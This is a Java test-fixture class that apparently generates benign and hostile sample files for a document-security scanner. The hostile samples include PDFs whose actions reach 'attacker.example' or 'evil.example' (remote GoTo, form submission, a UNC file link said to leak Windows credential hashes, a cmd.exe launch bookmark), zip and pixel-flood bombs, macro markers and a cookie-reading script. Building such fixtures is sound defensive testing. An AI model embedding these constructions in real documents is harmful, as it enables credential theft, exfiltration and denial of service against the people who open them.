package dev.attest.documents;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionNamed;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Files made by the tests themselves: good ones and every kind of hostile one. */
public final class TestFiles {

    private TestFiles() {
    }

    public static byte[] png(int width, int height) {
        return image(width, height, "png");
    }

    public static byte[] jpeg(int width, int height) {
        return image(width, height, "jpg");
    }

    private static byte[] image(int width, int height, String format) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        image.getGraphics().fillRect(10, 10, width / 2, height / 2);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, format, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A PNG with a Software text chunk, as screenshot tools write. */
    public static byte[] pngWithSoftware(int width, int height, String software) {
        byte[] png = png(width, height);
        byte[] text = ("Software\0" + software).getBytes(StandardCharsets.ISO_8859_1);
        byte[] chunk = chunk("tEXt", text);
        // insert after the IHDR chunk (8 signature + 25 IHDR bytes)
        ByteBuffer out = ByteBuffer.allocate(png.length + chunk.length);
        out.put(png, 0, 33).put(chunk).put(png, 33, png.length - 33);
        return out.array();
    }

    /** A PNG header claiming a huge image: a pixel flood. */
    public static byte[] pixelFloodPng(int width, int height) {
        ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0);
        byte[] ihdrChunk = chunk("IHDR", ihdr.array());
        byte[] idat = chunk("IDAT", new byte[] {0x78, (byte) 0x9c, 0x63, 0, 0, 0, 1, 0, 1});
        byte[] iend = chunk("IEND", new byte[0]);
        ByteBuffer out = ByteBuffer.allocate(8 + ihdrChunk.length + idat.length + iend.length);
        out.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'}).put(ihdrChunk).put(idat).put(iend);
        return out.array();
    }

    private static byte[] chunk(String type, byte[] data) {
        CRC32 crc = new CRC32();
        crc.update(type.getBytes(StandardCharsets.US_ASCII));
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length).putInt(data.length).put(type.getBytes(StandardCharsets.US_ASCII))
                .put(data).putInt((int) crc.getValue()).array();
    }

    public static byte[] pdf() {
        return pdf(doc -> { });
    }

    public static byte[] pdfWithJavaScript() {
        return pdf(doc -> doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi');")));
    }

    public static byte[] pdfWithLaunchAction() {
        return pdf(doc -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDComplexFileSpecification());
            doc.getDocumentCatalog().setOpenAction(launch);
        });
    }

    public static byte[] pdfWithEmbeddedFile() {
        return pdf(doc -> {
            try {
                PDComplexFileSpecification spec = new PDComplexFileSpecification();
                spec.setFile("payload.exe");
                spec.setEmbeddedFile(new PDEmbeddedFile(doc, new ByteArrayInputStream(new byte[] {1, 2, 3})));
                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(Map.of("payload.exe", spec));
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                doc.getDocumentCatalog().setNames(names);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    interface PdfChange {
        void apply(PDDocument doc) throws IOException;
    }

    private static byte[] pdf(PdfChange change) {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.addPage(new PDPage(PDRectangle.LETTER));
            change.apply(doc);
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF saved with PDFBox 3's default compression: its objects sit in compressed object streams. */
    public static byte[] compressedPdfWithJavaScript() {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.addPage(new PDPage(PDRectangle.LETTER));
            doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hidden');"));
            doc.save(out, CompressParameters.DEFAULT_COMPRESSION);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A minimal Word document (DOCX), optionally with a macro part. */
    public static byte[] docx(boolean withMacro) {
        return zip(out -> {
            entry(out, "[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>".getBytes(StandardCharsets.UTF_8));
            entry(out, "_rels/.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>".getBytes(StandardCharsets.UTF_8));
            entry(out, "word/document.xml", "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>".getBytes(StandardCharsets.UTF_8));
            if (withMacro) {
                entry(out, "word/vbaProject.bin", new byte[] {1, 2, 3, 4});
            }
        });
    }

    /** A DOCX-looking archive with one entry of zeros that inflates far beyond its compressed size. */
    public static byte[] zipBomb(int inflatedMegabytes) {
        return zip(out -> {
            entry(out, "[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8));
            entry(out, "word/document.xml", "<w:document/>".getBytes(StandardCharsets.UTF_8));
            try {
                out.putNextEntry(new ZipEntry("word/media/zeros.bin"));
                byte[] zeros = new byte[1024 * 1024];
                for (int i = 0; i < inflatedMegabytes; i++) {
                    out.write(zeros);
                }
                out.closeEntry();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        });
    }

    /** A DOCX-looking archive with too many entries. */
    public static byte[] zipWithEntries(int count) {
        return zip(out -> {
            entry(out, "[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8));
            entry(out, "word/document.xml", "<w:document/>".getBytes(StandardCharsets.UTF_8));
            for (int i = 0; i < count; i++) {
                entry(out, "word/part" + i + ".xml", new byte[] {'x'});
            }
        });
    }

    /** An old Word (OLE2) file, optionally with a VBA project storage name. */
    public static byte[] doc(boolean withMacro) {
        return withMacro ? ole2(true, "Macros", "VBA", "dir") : ole2(true);
    }

    /**
     * A compound file (written with Apache POI), with a {@code WordDocument} stream that starts like Word's when
     * {@code word}, and storages nested along {@code path}, whose last name is a stream in the innermost one.
     */
    public static byte[] ole2(boolean word, String... path) {
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            byte[] fib = new byte[1024];
            fib[0] = (byte) 0xEC;
            fib[1] = (byte) 0xA5;
            fs.createDocument(new ByteArrayInputStream(fib), word ? "WordDocument" : "Workbook");
            fs.createDocument(new ByteArrayInputStream(new byte[512]), "1Table");
            DirectoryEntry at = fs.getRoot();
            for (int i = 0; i < path.length - 1; i++) {
                at = at.createDirectory(path[i]);
            }
            if (path.length > 0) {
                at.createDocument(path[path.length - 1], new ByteArrayInputStream(new byte[] {1, 2, 3}));
            }
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // --- PDFs with active content, one per family ---

    /** A PDF whose catalog holds a JavaScript name tree (runs when the document opens). */
    public static byte[] pdfWithJavaScriptNameTree() {
        return pdf(doc -> {
            PDJavascriptNameTreeNode tree = new PDJavascriptNameTreeNode();
            tree.setNames(Map.of("init", new PDActionJavaScript("app.launchURL('https://evil.example');")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setJavascript(tree);
            doc.getDocumentCatalog().setNames(names);
        });
    }

    /** A PDF whose page, when opened, opens a remote file over a UNC path (GoToR). */
    public static byte[] pdfWithRemoteGoTo() {
        return pdf(doc -> {
            PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
            PDComplexFileSpecification file = new PDComplexFileSpecification();
            file.setFile("\\\\attacker.example\\share\\x.pdf");
            remote.setFile(file);
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.getCOSObject().setItem(COSName.O, remote);
            doc.getPage(0).setActions(actions);
        });
    }

    /** A PDF with a link annotation that submits a form to a server. */
    public static byte[] pdfWithSubmitForm() {
        return pdf(doc -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            PDComplexFileSpecification url = new PDComplexFileSpecification();
            url.setFile("https://attacker.example/collect");
            submit.setFile(url);
            doc.getPage(0).getAnnotations().add(link(submit));
        });
    }

    /** A PDF whose harmless first action is followed (Next) by JavaScript. */
    public static byte[] pdfWithScriptInNextChain() {
        return pdf(doc -> {
            PDActionGoTo go = new PDActionGoTo();
            PDPageFitDestination destination = new PDPageFitDestination();
            destination.setPage(doc.getPage(0));
            go.setDestination(destination);
            go.setNext(List.of(new PDActionJavaScript("app.alert(1)")));
            doc.getDocumentCatalog().setOpenAction(go);
        });
    }

    /** A PDF with a bookmark that launches a program. */
    public static byte[] pdfWithLaunchingBookmark() {
        return pdf(doc -> {
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("Open");
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new COSString("cmd.exe")));
            item.setAction(launch);
            outline.addLast(item);
            doc.getDocumentCatalog().setDocumentOutline(outline);
        });
    }

    /** A PDF form whose field imports data when it gets focus. */
    public static byte[] pdfWithImportDataField() {
        return pdf(doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            PDTextField field = new PDTextField(form);
            field.setPartialName("name");
            PDAnnotationWidget widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(50, 700, 200, 20));
            widget.setPage(doc.getPage(0));
            COSDictionary importData = new COSDictionary();
            importData.setName(COSName.TYPE, "Action");
            importData.setName(COSName.S, "ImportData");
            importData.setString(COSName.F, "\\\\attacker.example\\data.fdf");
            COSDictionary aa = new COSDictionary();
            aa.setItem(COSName.getPDFName("Fo"), importData);
            widget.getCOSObject().setItem(COSName.AA, aa);
            doc.getPage(0).getAnnotations().add(widget);
            form.getFields().add(field);
        });
    }

    /** A PDF with an XFA form carrying a script. */
    public static byte[] pdfWithXfa() {
        return pdf(doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            COSStream xfa = doc.getDocument().createCOSStream();
            try (OutputStream out = xfa.createOutputStream()) {
                out.write(("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity=\"initialize\">"
                        + "<script contentType=\"application/x-javascript\">app.alert(1)</script></event></subform>"
                        + "</template></xdp:xdp>").getBytes(StandardCharsets.UTF_8));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            form.getCOSObject().setItem(COSName.XFA, xfa);
            doc.getDocumentCatalog().setAcroForm(form);
        });
    }

    /** A PDF with a named action that is not a page move (Print, SaveAs …). */
    public static byte[] pdfWithNamedPrintAction() {
        return pdf(doc -> {
            PDActionNamed print = new PDActionNamed();
            print.setN("Print");
            doc.getDocumentCatalog().setOpenAction(print);
        });
    }

    /** A PDF with a link to a file on a share (file: URI): clicked, it leaks the Windows credential hash. */
    public static byte[] pdfWithFileUri() {
        return pdf(doc -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("file://attacker.example/share/x.pdf");
            doc.getPage(0).getAnnotations().add(link(uri));
        });
    }

    /** An ordinary PDF with a web link, as statements have. */
    public static byte[] pdfWithWebLink() {
        return pdf(doc -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://bank.example.com/contact");
            doc.getPage(0).getAnnotations().add(link(uri));
        });
    }

    /** A PDF with a page of the given size in points. */
    public static byte[] pdfWithPage(float width, float height) {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage(new PDRectangle(width, height));
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.addRect(0, 0, width / 2, height / 2);
                content.fill();
            }
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A PDF whose page draws the given number of rectangles (slow to render). */
    public static byte[] pdfWithManyOperators(int count) {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                for (int i = 0; i < count; i++) {
                    content.addRect(i % 500, i % 800, 50, 50);
                    content.fill();
                }
            }
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDAnnotationLink link(PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(50, 50, 200, 20));
        link.setAction(action);
        return link;
    }

    // --- DOCX packages ---

    public static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    public static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    public static final String REL = "http://schemas.openxmlformats.org/package/2006/relationships";
    public static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    public static final String PACKAGE_RELS = "<?xml version=\"1.0\"?><Relationships xmlns=\"" + REL + "\"><Relationship Id=\"rId1\" "
            + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";

    /** A Word body with the given paragraph content (runs, fields …). */
    public static String body(String paragraphs) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"" + W + "\" xmlns:r=\"" + R
                + "\"><w:body>" + paragraphs + "</w:body></w:document>";
    }

    /** Relationships of a part. */
    public static String rels(String... relationships) {
        return "<?xml version=\"1.0\"?><Relationships xmlns=\"" + REL + "\">" + String.join("", relationships)
                + "</Relationships>";
    }

    /**
     * A DOCX from its parts: the content types, package relationships and a plain body unless {@code parts}
     * replaces them (a {@code null} value leaves a part out).
     */
    public static byte[] docx(Map<String, Object> parts) {
        Map<String, Object> all = new LinkedHashMap<>();
        all.put("[Content_Types].xml", CONTENT_TYPES);
        all.put("_rels/.rels", PACKAGE_RELS);
        all.put("word/document.xml", body("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>"));
        all.putAll(parts);
        return zip(out -> all.forEach((name, content) -> {
            if (content != null) {
                entry(out, name, content instanceof byte[] b ? b : ((String) content).getBytes(StandardCharsets.UTF_8));
            }
        }));
    }

    /** A complex field whose instruction is split over several runs. */
    public static String splitField(String... instructionPieces) {
        StringBuilder runs = new StringBuilder("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
        for (String piece : instructionPieces) {
            runs.append("<w:r><w:instrText xml:space=\"preserve\">").append(piece).append("</w:instrText></w:r>");
        }
        return runs.append("<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").toString();
    }

    /** Bytes of a text in UTF-16 (little-endian) with a byte-order mark. */
    public static byte[] utf16(String text) {
        byte[] body = text.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"").getBytes(StandardCharsets.UTF_16LE);
        byte[] out = new byte[body.length + 2];
        out[0] = (byte) 0xFF;
        out[1] = (byte) 0xFE;
        System.arraycopy(body, 0, out, 2, body.length);
        return out;
    }

    public static byte[] windowsExecutable() {
        byte[] exe = new byte[2048];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    public static byte[] html() {
        return "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }

    interface ZipWriter {
        void write(ZipOutputStream out);
    }

    private static byte[] zip(ZipWriter writer) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            writer.write(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static void entry(ZipOutputStream out, String name, byte[] content) {
        try {
            out.putNextEntry(new ZipEntry(name));
            out.write(content);
            out.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // --- the same active content said another way (review of issue 16's fixes) ---

    /** A Word 97 binary document with this text in one piece, and optionally a template named in SttbfAssoc. */
    public static byte[] wordDocWithText(String text, boolean eightBit, String template) {
        return InspectionNeighboursTests.doc(text, eightBit, template);
    }

    /** A PDF whose object stream inflates to {@code inflated} bytes (a decompression bomb met while parsing). */
    public static byte[] pdfWithObjectStreamBomb(long inflated) {
        return PdfDecompressionBombTests.objectStreamBomb(inflated);
    }
}
